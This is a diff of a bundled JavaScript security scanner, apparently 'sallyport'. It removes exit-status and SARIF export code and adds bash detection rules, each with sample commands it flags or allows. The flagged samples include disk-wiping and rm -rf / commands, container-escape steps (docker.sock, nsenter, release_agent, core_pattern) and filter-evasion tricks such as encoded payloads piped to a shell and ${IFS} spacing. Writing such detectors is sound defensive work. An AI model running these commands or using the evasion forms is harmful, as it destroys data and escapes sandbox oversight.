-/* harmony export */   BX: () => (/* binding */ scanStatusOf),
-/* harmony export */   et: () => (/* binding */ exitStatusOf),
-/* harmony export */   jf: () => (/* binding */ concludeRun),
-/* harmony export */   ug: () => (/* binding */ failsStep)
-/* harmony export */ });
-/** What does it come to? One word for a request, from how each of its blocks ended (contract §3). */
-function concludeRun(results) {
-    const is = (status) => results.some((result) => result.status === status);
-    // A block that never began because the run was called off has no status of its own for that.
-    if (is('cancelled') || results.some(({ reasonCode }) => reasonCode === 'cancelled'))
-        return 'cancelled';
-    if (results.some((result) => !result.success && result.status !== 'timeout'))
-        return 'failure';
-    return is('timeout') ? 'timed_out' : 'success';
-}
-/** The conclusion of a request that did not run. */
-function concludeWithout(decision, reasonCode) {
-    if (decision === 'await-approval')
-        return 'action_required';
-    return reasonCode === 'cancelled' ? 'cancelled' : 'neutral';
-}
-/** Reasons that say: this could not run as it was given, or we could not run it. Everything else is somebody's no. */
-const COULD_NOT_RUN = new Set([
-    'usage_error',
-    'unknown_language',
-    'no_code',
-    'code_too_long',
-    'invalid_characters',
-    'syntax_error',
-    'config_invalid',
-    'not_found',
-    'permission_unknown',
-    'docker_unavailable',
-    'image_unavailable',
-    'sandbox_error',
-    'model_unavailable',
-    'model_refused',
-    'generation_failed',
-    'budget_exceeded',
-    'internal_error',
-]);
-/** Whether the step fails (`fail-on`). */
-function failsStep(record, failOn) {
-    if (failOn === 'never' || record.decision === 'ignore')
-        return false;
-    if (record.decision === 'run')
-        return record.conclusion !== 'success';
-    return failOn === 'refused' || COULD_NOT_RUN.has(record.reasonCode);
-}
-const OURS = new Set([
-    'docker_unavailable',
-    'image_unavailable',
-    'sandbox_error',
-    'internal_error',
-]);
-const USAGE = new Set([
-    'usage_error',
-    'config_invalid',
-    'unknown_language',
-    'no_code',
-    'limit_exceeded',
-    'not_found',
-]);
-/**
- * Exit status of the command line (contract §9): 0 success · 1 a program failed · 2 usage or configuration ·
- * 3 refused or not approved · 4 Docker, image or network. Of several the highest counts.
- */
-function exitStatusOf(block) {
-    if (block.success)
-        return 0;
-    if (block.status === 'infra-error' || OURS.has(block.reasonCode))
-        return 4;
-    if (block.status !== 'not-run')
-        return 1;
-    if (block.reasonCode === 'syntax_error')
-        return 1;
-    return USAGE.has(block.reasonCode) ||
-        block.reasonCode === 'code_too_long' ||
-        block.reasonCode === 'invalid_characters'
-        ? 2
-        : 3;
-}
-/**
- * Exit status of a scan, which runs nothing: 0 low risk · 1 a syntax error · 3 medium or high risk. What does not parse
- * could not be looked at either, so its risk says nothing more.
- */
-const scanStatusOf = ({ syntax, security }) => !syntax.valid ? 1 : security.risk === 'low' ? 0 : 3;
-
-
-/***/ }),
-
-/***/ 85375:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   $: () => (/* binding */ sarifOf)
-/* harmony export */ });
-/* unused harmony export SARIF_SCHEMA */
-/* harmony import */ var _core_digest__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89211);
-/* harmony import */ var _quote__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(13126);
-/** The findings for other tools: SARIF 2.1.0, ready for code scanning. Foreign text is made visible, never marked up. */
-
-
-const SARIF_SCHEMA = 'https://json.schemastore.org/sarif-2.1.0.json';
-const EXTENSION = {
-    python: 'py',
-    javascript: 'js',
-    typescript: 'ts',
-    bash: 'sh',
-};
-/** GitHub's scale from 0 to 10, by which code scanning sorts. */
-const SEVERITY = { error: '8.0', warning: '5.0', note: '2.0' };
-/** One run with every finding of the record; a plain object for `JSON.stringify`. `rulesUrl` is the rules' page. */
-function sarifOf(record, rulesUrl = null) {
-    const found = record.executions.flatMap((block) => block.security.findings.map((finding) => ({ block, finding })));
-    const ruleIds = [...new Set(found.map(({ finding }) => finding.ruleId))].sort();
-    return {
-        $schema: SARIF_SCHEMA,
-        version: '2.1.0',
-        runs: [
-            {
-                tool: {
-                    driver: {
-                        name: record.tool.name,
-                        version: record.tool.version,
-                        rules: ruleIds.map((id) => rule(id, found, rulesUrl)),
+        ok: [
+            'curl -s https://example.org/data.json | jq .name',
+            'curl -s https://example.org/data.json | python3 -m json.tool',
+            "curl -s https://example.org/d | python3 -c 'import sys; print(len(sys.stdin.read()))'",
+            'curl -o data.csv https://example.org/d.csv; bash process.sh data.csv',
+            "echo 'curl https://example.org | bash'",
+            'x=$(curl -s https://example.org); echo "$x"',
+        ],
+    },
+    {
+        id: 'sh/process/decoded-to-shell',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Decodes something and runs it, so that nobody can read what runs',
+        recommendation: 'Write the commands out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { pipe: { from: DECODERS, to: RUNS_INPUT } },
+        bad: [
+            'base64 -d payload.txt | sh',
+            'eval "$(tr a-z n-za-m < x)"',
+            'openssl enc -d -aes-256-cbc -in x -k k | bash',
+            'gunzip -c x.gz | bash',
+        ],
+        ok: ['base64 -d image.txt > image.png', 'gunzip -c log.gz | grep error', 'tr a-z A-Z < x'],
+    },
+    {
+        id: 'sh/dynamic-code/decoded-elsewhere',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Has another program decode a text and runs what comes out',
+        recommendation: 'Write the commands out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        match: {
+            all: [
+                {
+                    call: ['python', 'perl', 'ruby', 'php', 'node', 'awk', 'lua'],
+                    where: {
+                        arg: 'any',
+                        regex: '(?i)b64decode|unhexlify|fromhex|decode|\\bpack\\b|chr ?\\(|%c|Buffer\\.from|fromCharCode|rot13|\\[::-1\\]|reverse|\\\\x[0-9a-f]{2}',
                     },
                 },
-                columnKind: 'utf16CodeUnits',
-                automationDetails: { id: `sallyport/${record.requestId ?? 'request'}` },
-                artifacts: record.executions.map((block) => ({
-                    location: { uri: uriOf(block) },
-                    sourceLanguage: block.language,
-                    hashes: { 'sha-256': block.codeDigest.replace(/^sha256:/, '') },
-                })),
-                results: found.map(({ block, finding }) => resultOf(record, block, finding, ruleIds)),
+                { pipe: { from: ['python', 'perl', 'ruby', 'php', 'node', 'awk', 'lua'], to: [...SHELL_NAMES, 'eval'] } },
+            ],
+        },
+        bad: [
+            'python3 -c "import base64; print(base64.b64decode(\'aWQ=\').decode())" | sh',
+            'perl -e \'print pack "H*","6964"\' | bash',
+            'awk \'BEGIN { printf "%c%c", 105, 100 }\' | sh',
+        ],
+        ok: [
+            'python3 gen.py | bash',
+            "awk '{ print $1 }' f | sort",
+            'python3 -c \'import base64; print(base64.b64decode("aWQ="))\'',
+        ],
+    },
+    {
+        id: 'sh/dynamic-code/generated',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Runs what another program prints, which cannot be seen here',
+        recommendation: 'Write the commands out, or let the other program do the work itself',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: {
+            pipe: {
+                from: [
+                    'awk',
+                    'sed',
+                    'perl',
+                    'python',
+                    'ruby',
+                    'php',
+                    'node',
+                    'jq',
+                    'bc',
+                    'printf',
+                    'cut',
+                    'grep',
+                    'strings',
+                    'dd',
+                    'od',
+                    'hexdump',
+                    'git',
+                    'docker',
+                ],
+                to: SHELL_NAMES,
+            },
+        },
+        bad: ['awk \'BEGIN { printf "%c%c", 105, 100 }\' | sh', 'python3 -c "print(1)" | bash', 'grep x f | sh'],
+        ok: ["awk '{ print $1 }' f | sort", 'python3 gen.py > out.sh', 'cat build.sh | bash'],
+    },
+    {
+        id: 'sh/process/code-from-outside',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Runs text from outside as a command (an argument, input, a variable of the environment)',
+        recommendation: 'Call the program by name and pass the text as an argument',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-78' },
+        match: [
+            { pipe: { from: ['input', 'argument', 'environment'], to: RUNS_INPUT } },
+            { call: '$command', where: { arg: 0, is: 'external' } },
+            { call: SHELL_NAMES, where: { arg: 0, is: 'external' } },
+        ],
+        bad: ['read -r c; $c', 'eval "$1"', 'bash -c "$CMD"', 'cat | sh <<< "$1"', '"$@"'],
+        ok: [
+            '"$HOME/bin/tool" "$1"',
+            'read -r name; echo "$name"',
+            'PY=python3; $PY --version',
+            'run() { "$@"; }; run ls -l',
+        ],
+    },
+    {
+        id: 'sh/process/shell-string',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Puts a value into a command line that a shell reads again',
+        recommendation: 'Pass the value as an argument of its own',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: { call: [...SHELL_NAMES, 'su'], where: [{ flag: 'c' }, { arg: 'any', is: ['external', 'list'] }] },
+        bad: ['bash -c "grep $1 file"', 'sh -c "$COMMAND"'],
+        ok: ["bash -c 'echo hello'", 'sh build.sh "$1"', 'bash -c \'echo "$1"\' _ x'],
+    },
+    {
+        id: 'sh/dynamic-code/eval',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Runs a text as code that is put together when it runs (eval)',
+        recommendation: 'Call the command directly; keep arguments in an array',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [
+            { call: 'eval', where: { arg: 'any', is: 'non-literal' } },
+            { call: ['source', '.'], where: { arg: 0, is: ['external', 'list'] } },
+        ],
+        bad: ['eval "$cmd"', 'read -r c; eval "$c"', 'eval "x=$1"', 'source "$1"'],
+        ok: ["eval 'x=1'", 'x=5; eval "y=$x"', 'echo eval', 'source ./lib.sh', "sed 's/eval(/x(/' a.py"],
+    },
+    {
+        id: 'sh/dynamic-code/literal-eval',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Runs a fixed text or another file as code',
+        recommendation: 'Write the commands where they run',
+        metadata: { capability: 'dynamic-code' },
+        match: { call: ['eval', 'source', '.', 'trap', 'alias'] },
+        bad: ["eval 'x=1'", 'source ./lib.sh', '. lib.sh', "alias ll='ls -l'"],
+        ok: ['echo eval', 'evaluate=1'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-disguise.js
+/** Bash: code and names that are written so that nobody reads them. */
+
+const bashDisguiseRules = [
+    {
+        id: 'sh/obfuscation/decoded-code',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Decodes a text (base64, hex, reversed, escapes …) and runs it',
+        recommendation: 'Write the commands out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: {
+            obfuscation: ['base64', 'base32', 'hex', 'reversed', 'translated', 'compressed', 'escape', 'indirect', 'joined'],
+        },
+        bad: [
+            'echo aWQK | base64 -d | sh',
+            "rev <<< 'di' | bash",
+            'eval "$(printf \'\\x69\\x64\')"',
+            'bash -c "$(echo 6964 | xxd -r -p)"',
+            'echo vq | tr a-z n-za-m | sh',
+            "eval $'\\x69\\x64'",
+            'x=aWQK; y=$(echo $x | base64 --decode); eval "$y"',
+            'base64 -d <<< aWQK > /tmp/x; . /tmp/x',
+            'python3 -c "$(echo cHJpbnQoMSk= | base64 -d)"',
+            'source <(base64 -d <<< aWQK)',
+        ],
+        ok: [
+            'echo aGVsbG8= | base64 -d',
+            "rev <<< 'abc'",
+            "printf '\\x41\\n'",
+            'base64 -d <<< aGk= > hi.txt; cat hi.txt',
+            'echo "$(echo aGk= | base64 -d)"',
+        ],
+    },
+    {
+        id: 'sh/obfuscation/reshaped-code',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Cuts or replaces parts of a text and runs the result',
+        recommendation: 'Write the commands out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { obfuscation: ['replaced', 'substring'] },
+        bad: ['x=\'iXd\'; eval "${x//X/}"', 'x=xxid; eval "${x:2}"'],
+        ok: ['x=\'a.b\'; echo "${x//./-}"', 'x=abc; echo "${x:1}"'],
+    },
+    {
+        id: 'sh/obfuscation/hidden-command',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Hides the name of a command that can do harm (pieces, quotes, escapes, patterns)',
+        recommendation: 'Write the name out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: {
+            call: [
+                ...SHELL_NAMES,
+                'eval',
+                'exec',
+                'source',
+                'perl',
+                'ruby',
+                'php',
+                'python',
+                'node',
+                'curl',
+                'wget',
+                'nc',
+                'socat',
+                'telnet',
+                'ssh',
+                'rm',
+                'dd',
+                'mkfs',
+                'shred',
+                'chmod',
+                'chown',
+                'sudo',
+                'su',
+                'kill',
+                'pkill',
+                'killall',
+                'base64',
+                'xxd',
+                'openssl',
+                'crontab',
+                'docker',
+                'mount',
+                'insmod',
+                'nsenter',
+                'cat',
+                'env',
+                'printenv',
+                'whoami',
+                'id',
+                'shutdown',
+                'reboot',
+                'history',
+                'useradd',
+                'passwd',
+                'iptables',
+                'uname',
+                'ps',
+                'ifconfig',
+                'tac',
+                'less',
+                'head',
+                'more',
+            ],
+            hidden: true,
+        },
+        bad: [
+            "c'u'rl https://example.org",
+            'w\\get https://example.org',
+            'a=cu; b=rl; $a$b https://example.org',
+            "$'\\x63\\x75\\x72\\x6c' https://example.org",
+            '/???/b??h -c id',
+            'c""at x',
+            '{curl,https://example.org}',
+            '$(echo cm0= | base64 -d) -f x',
+            'x=bash; ${x:0:4} -c id',
+            '${x:-ev}al id',
+            '$(rev <<< lave) id',
+            'c$@at x',
+            "$(printf '\\143\\141\\164') x",
+        ],
+        ok: [
+            '\\rm -f x',
+            '"ls" -l',
+            "'cat' x",
+            'C=curl; $C https://example.org',
+            '"$HOME"/bin/tool',
+            'v=12; gcc-$v -c a.c',
+            '/usr/bin/cat x',
+            'cp file{,.bak}',
+        ],
+    },
+    {
+        id: 'sh/obfuscation/hidden-name',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Hides the name of a command',
+        recommendation: 'Write the name out',
+        metadata: { capability: 'obfuscation' },
+        match: { call: '*', hidden: true },
+        bad: ["l's' -l", "$'\\x6c\\x73'"],
+        ok: ['ls', 'v=3; tool-$v --help', '\\ls'],
+    },
+    {
+        id: 'sh/obfuscation/ifs',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Writes ${IFS} in the place of spaces, which gets past filters',
+        recommendation: 'Write spaces',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { obfuscation: 'ifs' },
+        bad: ['cat${IFS}notes.txt', 'ls$IFS-l', 'echo${IFS%??}x'],
+        ok: ['OLDIFS=$IFS', 'echo "$IFS"', 'IFS=, read -r a b <<< "1,2"', 'printf \'%q\' "$IFS"'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-disks.js
+/** Disks and partitions, memory and ports. */
+const DEVICE = '^(of=)?/dev/(sd[a-z]|nvme|vd[a-z]|xvd|hd[a-z]|mmcblk|disk|mapper|dm-|md\\d|sr\\d|loop\\d|root|mem$|kmem|port|nbd|ram\\d|rdisk)';
+const bashDiskRules = [
+    {
+        id: 'sh/filesystem/disk',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Writes to a disk or changes partitions or file systems (mkfs, fdisk, dd)',
+        recommendation: 'Take it out; for tests use an image file',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { call: 'dd', where: { arg: 'any', regex: DEVICE.replace('(of=)?', 'of=') } },
+            { redirect: { operator: ['>', '>>', '>|', '<>', '&>'], target: { regex: DEVICE } } },
+            { call: ['tee', 'cp', 'mv', 'cat', 'shred'], where: { arg: -1, regex: DEVICE } },
+            {
+                call: [
+                    'mkfs',
+                    'mke2fs',
+                    'mkswap',
+                    'mkntfs',
+                    'mkdosfs',
+                    'wipefs',
+                    'blkdiscard',
+                    'cryptsetup',
+                    'sgdisk',
+                    'hdparm',
+                    'badblocks',
+                    'pvcreate',
+                    'zpool',
+                    'fsck',
+                    'tune2fs',
+                ],
+                where: { arg: 'any', regex: DEVICE },
+            },
+            { call: ['mkfs', 'wipefs', 'blkdiscard'], where: { arg: 'any', is: ['external', 'list'] } },
+            {
+                call: [
+                    'fdisk',
+                    'sfdisk',
+                    'cfdisk',
+                    'parted',
+                    'sgdisk',
+                    'gdisk',
+                    'lvremove',
+                    'vgremove',
+                    'pvremove',
+                    'pvcreate',
+                    'swapoff',
+                    'diskutil',
+                    'diskpart',
+                    'format',
+                ],
+                where: [{ minArgs: 1 }, { flag: ['l', 'list', 'version', 'help', 'V', 'h'], not: true }],
             },
         ],
-    };
-}
-function rule(id, found, rulesUrl) {
-    const first = found.find(({ finding }) => finding.ruleId === id)?.finding;
-    const level = first?.level ?? 'note';
-    const help = (0,_quote__WEBPACK_IMPORTED_MODULE_1__/* .oneLine */ .TN)(first?.recommendation ?? '', 1000);
-    return {
-        id,
-        shortDescription: { text: (0,_quote__WEBPACK_IMPORTED_MODULE_1__/* .oneLine */ .TN)(first?.message ?? id, 1000) },
-        ...(help === '' ? {} : { help: { text: help } }),
-        ...(rulesUrl === null ? {} : { helpUri: `${rulesUrl}#${encodeURIComponent(id.replace(/\//g, '-'))}` }),
-        defaultConfiguration: { level },
-        properties: { tags: ['security', first?.capability ?? 'unknown'], 'security-severity': SEVERITY[level] },
-    };
-}
-function resultOf(record, block, finding, ruleIds) {
-    const line = block.code.split(/\r\n|\r|\n/)[finding.line - 1] ?? '';
-    return {
-        ruleId: finding.ruleId,
-        ruleIndex: ruleIds.indexOf(finding.ruleId),
-        level: finding.level,
-        message: { text: (0,_quote__WEBPACK_IMPORTED_MODULE_1__/* .oneLine */ .TN)(finding.message, 1000) || finding.ruleId },
-        locations: [{ physicalLocation: { artifactLocation: { uri: uriOf(block) }, region: regionOf(finding) } }],
-        // The same rule on the same words is the same finding, wherever in the text it moves to.
-        partialFingerprints: {
-            'sallyport/v1': (0,_core_digest__WEBPACK_IMPORTED_MODULE_0__/* .textDigest */ .oA)(`${record.trigger.repository ?? ''}\n${finding.ruleId}\n${line.trim()}`).slice(7, 39),
+        bad: [
+            'mkfs.ext4 /dev/sda1',
+            'dd if=/dev/zero of=/dev/sda',
+            'echo > /dev/sda',
+            'fdisk /dev/sdb',
+            'd=/dev/nvme0n1; wipefs -a "$d"',
+            'cat image > /dev/mmcblk0',
+            'parted -s /dev/vda mklabel gpt',
+            'cp /dev/zero /dev/sda',
+        ],
+        ok: [
+            'dd if=/dev/zero of=test.img bs=1M count=10',
+            'mkfs.ext4 disk.img',
+            'fdisk -l',
+            'dd if=/dev/urandom of=/dev/null count=1',
+            'echo x > /dev/null',
+            "echo 'mkfs.ext4 /dev/sda'",
+        ],
+    },
+    {
+        id: 'sh/filesystem/formats',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Makes a file system or mounts one',
+        recommendation: 'Leave it out; a sandbox has no such rights',
+        metadata: { capability: 'filesystem' },
+        match: [
+            {
+                call: ['umount', 'losetup', 'swapon', 'cryptsetup', 'fdisk', 'parted', 'dmsetup', 'lvcreate', 'mknod'],
+            },
+            { call: 'mount', where: { minArgs: 1 } },
+            // An image below the current folder is a file like any other.
+            {
+                call: ['mkfs', 'mke2fs', 'mkswap'],
+                where: { arg: -1, regex: '^(?!/|~|-|\\$)[\\w./-]{1,100}\\.(img|iso|raw|fs|ext[234])$', not: true },
+            },
+        ],
+        bad: ['mkfs.ext4 "$1"', 'mount -o loop a.img /mnt', 'mknod p b 8 0'],
+        ok: ['mkfs.ext4 -q disk.img', 'mount', 'df -h', 'lsblk'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-escape.js
+const SOCKET = '(docker|containerd|crio|podman|dockershim|docker-cli)[^ ]{0,40}\\.sock';
+const bashEscapeRules = [
+    {
+        id: 'sh/sandbox-escape/container-socket',
+        languages: ['bash'],
+        severity: 'high',
+        message: "Talks to the container engine's socket, which is the same as being root on the machine",
+        recommendation: 'Take it out',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: [
+            {
+                call: [
+                    'curl',
+                    'docker',
+                    'podman',
+                    'nc',
+                    'socat',
+                    'cat',
+                    'ls',
+                    'chmod',
+                    'chown',
+                    'test',
+                    'stat',
+                    'ln',
+                    'python',
+                    'ctr',
+                    'crictl',
+                    'nerdctl',
+                    '$command',
+                    'ssh',
+                    'wget',
+                    'export',
+                    'mount',
+                    'cp',
+                    'rm',
+                    'http',
+                ],
+                where: { arg: 'any', regex: SOCKET },
+            },
+            { redirect: { target: { regex: SOCKET } } },
+            { assign: 'DOCKER_HOST' },
+        ],
+        bad: [
+            'curl --unix-socket /var/run/docker.sock http://x/containers/json',
+            's=/var/run; curl --unix-socket "$s/docker.sock" http://x/',
+            'docker run -v /var/run/docker.sock:/s alpine',
+            'export DOCKER_HOST=unix:///s',
+            'socat - UNIX-CONNECT:/run/containerd/containerd.sock',
+        ],
+        ok: ['echo /var/run/docker.sock', 'docker ps', 'docker build -t x .'],
+    },
+    {
+        id: 'sh/sandbox-escape/host',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Leaves the container or reaches for the host (privileged container, nsenter, cgroup release agent)',
+        recommendation: 'Take it out',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: [
+            {
+                call: ['docker', 'podman', 'nerdctl', 'ctr'],
+                where: {
+                    arg: 'any',
+                    regex: '^--?(privileged|pid=host|ipc=host|uts=host|userns=host|cap-add=(ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)|device=.{0,20}|security-opt=?.{0,12}unconfined)$|^host$|^(type=bind,)?(source=|src=)?/(etc|root|home|var|proc|sys)?/?(:|,)',
+                },
+            },
+            { call: ['nsenter', 'pivot_root', 'capsh', 'debugfs', 'runc', 'kubelet'] },
+            { call: 'chroot', where: { arg: 'any', regex: '^/(host|mnt|proc/1/root|hostfs|rootfs)' } },
+            { call: 'unshare', where: { flag: ['r', 'U', 'map-root-user', 'm', 'mount', 'user', 'p'] } },
+            {
+                call: 'mount',
+                where: {
+                    arg: 'any',
+                    regex: '^(cgroup|/dev/(sd|vd|nvme|xvd|mapper|dm-|disk)|/proc|proc|overlay|bind|--bind|rdma|memory)',
+                },
+            },
+            {
+                redirect: {
+                    target: {
+                        regex: 'release_agent|notify_on_release|core_pattern|/proc/1/root|uevent_helper|binfmt_misc|/sys/kernel|/proc/sys/kernel|cgroup\\.procs',
+                    },
+                },
+            },
+            {
+                call: ['cat', 'ls', 'cp', 'tee', 'find', 'cd', 'chmod', 'ln'],
+                where: {
+                    arg: 'any',
+                    regex: 'release_agent|core_pattern|/proc/1/(root|ns|cwd)|uevent_helper|binfmt_misc|/proc/sys/kernel/modprobe',
+                },
+            },
+            { call: 'mknod', where: { arg: 'any', equals: ['b', 'c'] } },
+        ],
+        bad: [
+            'docker run --privileged -it alpine',
+            'docker run -v /:/host alpine chroot /host',
+            'nsenter -t 1 -m -u -i -n sh',
+            'echo /tmp/x > /sys/fs/cgroup/rdma/release_agent',
+            "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
+            'unshare -rm sh',
+            'mount /dev/sda1 /mnt',
+            'ls /proc/1/root',
+            'docker run --pid=host alpine',
+        ],
+        ok: [
+            'docker run --rm alpine echo hi',
+            'docker run -v "$PWD":/work alpine',
+            'chroot --version',
+            'cat /proc/cpuinfo',
+            'echo --privileged',
+            'docker run -v ./data:/data alpine',
+        ],
+    },
+    {
+        id: 'sh/sandbox-escape/probe',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Looks whether it runs in a container, or for ways out',
+        recommendation: 'Leave it out where the program does not need it',
+        metadata: { capability: 'sandbox-escape' },
+        match: [
+            {
+                call: ['cat', 'grep', 'ls', 'test', '[', 'stat', 'head'],
+                where: {
+                    arg: 'any',
+                    regex: '/proc/(1|self)/cgroup|/\\.dockerenv|/proc/(self|1)/status|/proc/mounts|/proc/self/mountinfo',
+                },
+            },
+            { call: ['docker', 'podman', 'nerdctl', 'crictl', 'kubectl', 'systemd-detect-virt'] },
+        ],
+        bad: ['cat /proc/1/cgroup', 'docker ps'],
+        ok: ['cat /proc/cpuinfo'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-files.js
+/** Bash: what deletes and overwrites files, disks and rights. */
+
+/** The root, homes and system folders themselves (or all that is in them). */
+const WHOLE = [
+    '^(/|~|/root|/home|/etc|/usr|/usr/(bin|lib|local|sbin|share)|/var|/var/(lib|log|www)|/bin|/sbin|/lib|/lib64|/boot|/dev|/opt|/sys|/proc|/srv|/mnt|/media|/System|/Users|/Library|C:|/mnt/c|/\\$\\{[^}]{0,40}\\})/{0,2}(\\.?\\*|\\.|\\.\\.|\\.\\*)?/?$',
+    '^(/\\.{0,2}){2,4}/?$',
+    '^/[a-z]?[?*]{1,8}/?$',
+];
+/** Below those folders; temporary folders are not among them. */
+const SYSTEM = '^(/etc|/usr|/bin|/sbin|/lib|/lib64|/boot|/opt|/srv|/root|/home|/dev|/sys|/proc|/var/(lib|log|www|spool|backups|mail))/.';
+/** Every file of a home, of a folder in it, or of the system. */
+const PLACES = '^(~|/home|/root|/etc|/usr|/var|/srv|/opt|)';
+const EVERY = ['/\\*', '/[^/*]{1,20}/\\*', '/[^/*]{1,20}/[^/*]{1,20}/\\*'].map((end) => PLACES + end);
+const RECURSIVE = { flag: ['r', 'R', 'recursive'] };
+const bashFileRules = [
+    {
+        id: 'sh/filesystem/delete',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Deletes files',
+        recommendation: 'Name exactly what is deleted',
+        metadata: { capability: 'filesystem' },
+        match: [{ call: ['rm', 'unlink', 'rmdir'] }, { call: ['find', 'fd'], where: { flag: ['-delete', 'delete'] } }],
+        bad: ['rm old.txt', "find . -name '*.pyc' -delete", '/bin/rm -f a'],
+        ok: ['echo "rm -rf /"', "cat <<'E'\nrm -rf /\nE", '# rm -rf /', 'farm=1; echo "$farm"'],
+    },
+    {
+        id: 'sh/filesystem/delete-all',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Deletes or destroys the whole file system, a home or a system folder (rm -rf /)',
+        recommendation: 'Take it out; to clean up, name the one folder that the program made',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { call: 'rm', where: [RECURSIVE, { arg: 'any', regex: WHOLE }] },
+            { call: 'rm', where: { flag: 'no-preserve-root' } },
+            { call: ['shred', 'wipe', 'srm', 'unlink', 'scrub'], where: { arg: 'any', regex: [...WHOLE, DEVICE] } },
+            { call: 'rm', where: { arg: 'any', regex: '^(/|~/?|/home|/etc|/usr)/?\\*$' } },
+            { call: 'find', where: [{ arg: 'any', regex: WHOLE }, { flag: ['-delete'] }] },
+            { call: 'mv', where: [{ arg: 0, regex: WHOLE }, { minArgs: 2 }] },
+            { call: 'rsync', where: [{ flag: ['delete', 'delete-before', 'delete-after'] }, { arg: -1, regex: WHOLE }] },
+        ],
+        bad: [
+            'rm -rf /',
+            'rm -fr /*',
+            'rm -r -f ~',
+            'sudo rm -rf --no-preserve-root /',
+            'X=rm; Y=-rf; $X $Y /',
+            'command rm -rf "$HOME"',
+            "r''m -rf /",
+            'rm -rf //',
+            'cd /; rm -rf "${x:-/}"',
+            'find / -delete',
+            'find ~ -type f -exec shred -u {} +',
+            'mv ~ /dev/null',
+            'echo / | xargs rm -rf',
+            'find / -exec rm -rf {} \\;',
+            'a=(rm -rf /); "${a[@]}"',
+            'busybox rm -rf /etc',
+            'rm --recursive --force /usr/*',
+            'f() { rm -rf "$1"; }; f /',
+        ],
+        ok: [
+            'rm -rf build',
+            'rm -rf ./dist node_modules',
+            'd=$(mktemp -d); rm -rf "$d"',
+            'rm -rf /tmp/work',
+            'echo rm -rf /',
+            "grep -r 'rm -rf /' .",
+            'rm -f ~/notes.txt',
+            'find . -delete',
+        ],
+    },
+    {
+        id: 'sh/filesystem/delete-given',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Deletes a folder that an argument, the environment or a pattern names',
+        recommendation: 'Check the path first, or delete only what the program made (mktemp -d)',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            { call: 'rm', where: [RECURSIVE, { arg: 'any', is: ['external', 'list'] }] },
+            {
+                call: 'rm',
+                where: [
+                    RECURSIVE,
+                    {
+                        arg: 'any',
+                        regex: [
+                            SYSTEM,
+                            '^(\\.{1,2}/){0,4}(\\*|\\.|\\.\\.|\\.\\*|\\.\\[.{1,8})$',
+                            '^~/\\.?[^/]{1,40}/?$',
+                            '^\\.git/?$',
+                        ],
+                    },
+                ],
+            },
+            { call: 'find', where: [{ arg: 0, regex: SYSTEM }, { flag: ['-delete'] }] },
+            {
+                call: 'find',
+                where: [
+                    { arg: 'any', regex: [...WHOLE, SYSTEM] },
+                    { flag: ['-exec', '-execdir'] },
+                    { arg: 'any', regex: '^(rm|shred|unlink|mv|truncate)$|\\b(rm|shred|unlink) ' },
+                ],
+            },
+            { call: ['shred', 'wipe', 'srm', 'scrub', 'bleachbit'] },
+        ],
+        bad: [
+            'rm -rf "$1"',
+            'rm -rf "$DIR/cache"',
+            'rm -rf /var/lib/postgresql',
+            'rm -rf *',
+            'rm -rf ~/Documents',
+            'shred -u key.txt',
+            'rm -rf ..',
+        ],
+        ok: ['rm -rf build/', 'rm "$1"', 'tmp=$(mktemp -d); rm -rf "$tmp"', 'out=build; rm -rf "$out"'],
+    },
+    {
+        id: 'sh/filesystem/overwrite-all',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Overwrites, encrypts or empties every file of a home or the system',
+        recommendation: 'Write only to files that the script made',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            { redirect: { operator: ['>', '>|', '&>'], target: { regex: EVERY } } },
+            {
+                call: ['truncate', 'tee', 'cp', 'mv', 'gpg', 'openssl', 'ccrypt', '7z', 'zip'],
